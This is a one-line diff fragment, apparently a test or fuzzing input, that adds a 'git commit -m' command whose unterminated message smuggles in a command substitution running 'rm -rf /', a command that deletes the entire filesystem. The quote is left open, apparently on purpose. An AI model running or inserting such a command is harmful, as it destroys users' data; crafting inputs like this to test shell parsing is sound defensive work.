@@ -1,0 +1,1 @@
+git commit -m "half open $(rm -rf / 
